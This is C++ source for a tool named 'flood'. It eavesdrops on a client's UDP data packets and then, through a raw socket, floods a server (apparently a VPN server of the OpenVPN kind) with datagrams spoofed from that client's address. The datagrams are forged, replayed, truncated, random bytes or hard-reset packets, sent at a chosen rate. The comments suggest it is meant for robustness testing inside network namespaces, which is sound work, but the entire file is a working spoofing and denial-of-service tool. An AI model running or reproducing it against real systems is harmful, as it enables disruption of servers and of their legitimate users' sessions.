// Floods a server with hostile datagrams under the source address of one of its clients. Run in that client's
// namespace, as root, while the client is sending a little traffic:
//
//     flood DEVICE SERVER_IPV4 PORT COUNT RATE KIND…        KIND: forged replayed truncated random resets
//
// First it overhears real data packets of the client on DEVICE, then it sends COUNT datagrams of each kind at
// RATE a second through a raw socket. Prints "KIND COUNT" after each kind.

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <span>
#include <stdexcept>
#include <string>
#include <system_error>
#include <thread>
#include <vector>

namespace {

using Bytes = std::vector<std::uint8_t>;

constexpr std::size_t kHeaders = sizeof(iphdr) + sizeof(udphdr);
constexpr std::size_t kBatch = 64;  // messages per sendmmsg
constexpr std::size_t kLargestPayload = 1400;
constexpr std::size_t kCaptured = 16;
constexpr auto kCaptureTime = std::chrono::seconds(10);
constexpr std::uint8_t kDataV2 = 9;
constexpr std::uint8_t kHardResetClientV2 = 7;

[[noreturn]] void fail(const char* what) {
  throw std::system_error(errno, std::generic_category(), what);
}

// What was overheard: the client's address and some of its data packets (UDP payloads).
struct Capture {
  std::uint32_t client_address = 0;
  std::uint16_t client_port = 0;
  std::vector<Bytes> packets;
};

class Eavesdropper {
 public:
  explicit Eavesdropper(const std::string& device) : fd_(socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL))) {
    if (fd_ < 0) fail("packet socket");
    sockaddr_ll where{};
    where.sll_family = AF_PACKET;
    where.sll_protocol = htons(ETH_P_ALL);  // outgoing packets are shown to nobody else
    where.sll_ifindex = static_cast<int>(if_nametoindex(device.c_str()));
    if (bind(fd_, reinterpret_cast<sockaddr*>(&where), sizeof where) < 0) fail("bind to the device");
  }
  Eavesdropper(const Eavesdropper&) = delete;
  Eavesdropper& operator=(const Eavesdropper&) = delete;
  ~Eavesdropper() { close(fd_); }

  Capture listen(const sockaddr_in& server) {
    Capture capture;
    const auto deadline = std::chrono::steady_clock::now() + kCaptureTime;
    while (capture.packets.size() < kCaptured && std::chrono::steady_clock::now() < deadline) {
      pollfd ready{fd_, POLLIN, 0};
      if (poll(&ready, 1, 100) > 0) take(server, capture);
    }
    if (capture.packets.empty()) throw std::runtime_error("no data packet of a client was seen");
    return capture;
  }

 private:
  void take(const sockaddr_in& server, Capture& capture) {
    std::array<std::uint8_t, 65536> packet;
    const ssize_t received = recv(fd_, packet.data(), packet.size(), 0);
    if (received < static_cast<ssize_t>(kHeaders) + 1) return;
    iphdr ip;
    udphdr udp;
    std::memcpy(&ip, packet.data(), sizeof ip);
    std::memcpy(&udp, packet.data() + sizeof ip, sizeof udp);
    const auto size = static_cast<std::size_t>(received);
    const bool to_server = ip.version == 4 && ip.ihl == 5 && ip.protocol == IPPROTO_UDP &&
                           ip.daddr == server.sin_addr.s_addr && udp.dest == server.sin_port;
    // Larger ones are runs of datagrams that the device has not cut yet.
    if (!to_server || packet[kHeaders] >> 3 != kDataV2 || size > kHeaders + kLargestPayload) return;
    capture.client_address = ip.saddr;
    capture.client_port = udp.source;
    capture.packets.emplace_back(packet.begin() + kHeaders, packet.begin() + received);
  }

  int fd_;
};

// Makes the payloads of one kind.
class Forger {
 public:
  explicit Forger(const Capture& capture) : capture_(capture) {}

  // Fills `out` with the next payload and returns its size.
  std::size_t make(const std::string& kind, std::span<std::uint8_t> out) {
    const Bytes& real = capture_.packets[next_++ % capture_.packets.size()];
    if (kind == "forged") {  // a known peer and key, a fresh packet id, a tag that cannot be right
      const std::size_t size = 64 + random_() % 192;
      fill(out.first(size));
      std::copy_n(real.begin(), 5, out.begin());
      return size;
    }
    if (kind == "replayed" || kind == "truncated") {
      std::copy(real.begin(), real.end(), out.begin());
      return kind == "replayed" ? real.size() : random_() % real.size();
    }
    if (kind == "random") {
      const std::size_t size = 1 + random_() % 200;
      fill(out.first(size));
      return size;
    }
    if (kind == "resets") {  // opcode, session id, no acknowledgements, message id 0
      fill(out.first(9));
      out[0] = kHardResetClientV2 << 3;
      std::fill_n(out.begin() + 9, 5, std::uint8_t{0});
      return 14;
    }
    throw std::invalid_argument("unknown kind " + kind);
  }

  std::uint16_t random_port() { return static_cast<std::uint16_t>(1024 + random_() % 60000); }

 private:
  void fill(std::span<std::uint8_t> bytes) {
    for (auto& byte : bytes) byte = static_cast<std::uint8_t>(random_());
  }

  const Capture& capture_;
  std::size_t next_ = 0;
  std::minstd_rand random_{1};
};

class Flood {
 public:
  Flood(const Capture& capture, const sockaddr_in& server)
      : capture_(capture), server_(server), forger_(capture), fd_(socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) {
    if (fd_ < 0) fail("raw socket");
    if (connect(fd_, reinterpret_cast<const sockaddr*>(&server_), sizeof server_) < 0) fail("connect");
    for (std::size_t i = 0; i < kBatch; ++i) {
      parts_[i] = {packets_[i].data(), 0};
      messages_[i].msg_hdr.msg_iov = &parts_[i];
      messages_[i].msg_hdr.msg_iovlen = 1;
    }
  }
  Flood(const Flood&) = delete;
  Flood& operator=(const Flood&) = delete;
  ~Flood() { close(fd_); }

  void run(const std::string& kind, std::size_t count, std::size_t rate) {
    const auto started = std::chrono::steady_clock::now();
    for (std::size_t sent = 0; sent < count;) {
      const std::size_t batch = std::min(kBatch, count - sent);
      for (std::size_t i = 0; i < batch; ++i) fill_packet(i, kind);
      send(batch);
      sent += batch;
      std::this_thread::sleep_until(started + std::chrono::nanoseconds(std::nano::den) * sent / rate);
    }
    std::printf("%s %zu\n", kind.c_str(), count);
    std::fflush(stdout);
  }

 private:
  void fill_packet(std::size_t index, const std::string& kind) {
    auto& packet = packets_[index];
    const std::size_t payload = forger_.make(kind, std::span(packet).subspan(kHeaders));
    const std::size_t size = kHeaders + payload;
    iphdr ip{};
    ip.version = 4;
    ip.ihl = 5;
    ip.ttl = 64;
    ip.protocol = IPPROTO_UDP;
    ip.saddr = capture_.client_address;
    ip.daddr = server_.sin_addr.s_addr;
    ip.tot_len = htons(static_cast<std::uint16_t>(size));
    udphdr udp{};  // a checksum of 0 means that there is none
    udp.source = kind == "resets" ? htons(forger_.random_port()) : capture_.client_port;
    udp.dest = server_.sin_port;
    udp.len = htons(static_cast<std::uint16_t>(sizeof udp + payload));
    std::memcpy(packet.data(), &ip, sizeof ip);
    std::memcpy(packet.data() + sizeof ip, &udp, sizeof udp);
    parts_[index].iov_len = size;
  }

  void send(std::size_t batch) {
    for (std::size_t done = 0; done < batch;) {
      const int sent = sendmmsg(fd_, messages_.data() + done, static_cast<unsigned>(batch - done), 0);
      if (sent < 0 && errno != ENOBUFS && errno != EINTR) fail("sendmmsg");
      if (sent > 0) done += static_cast<std::size_t>(sent);
    }
  }

  const Capture& capture_;
  sockaddr_in server_;
  Forger forger_;
  int fd_;
  std::array<std::array<std::uint8_t, kHeaders + kLargestPayload>, kBatch> packets_{};
  std::array<iovec, kBatch> parts_{};
  std::array<mmsghdr, kBatch> messages_{};
};

}  // namespace

int main(int argc, char** argv) {
  if (argc < 7) {
    std::fputs("usage: flood DEVICE SERVER_IPV4 PORT COUNT RATE KIND…\n", stderr);
    return 2;
  }
  try {
    sockaddr_in server{};
    server.sin_family = AF_INET;
    server.sin_port = htons(static_cast<std::uint16_t>(std::stoul(argv[3])));
    if (inet_pton(AF_INET, argv[2], &server.sin_addr) != 1)
      throw std::invalid_argument("not an IPv4 address");
    const Capture capture = Eavesdropper(argv[1]).listen(server);
    Flood flood(capture, server);
    for (int i = 6; i < argc; ++i) flood.run(argv[i], std::stoul(argv[4]), std::stoul(argv[5]));
  } catch (const std::exception& error) {
    std::fprintf(stderr, "flood: %s\n", error.what());
    return 1;
  }
  return 0;
}
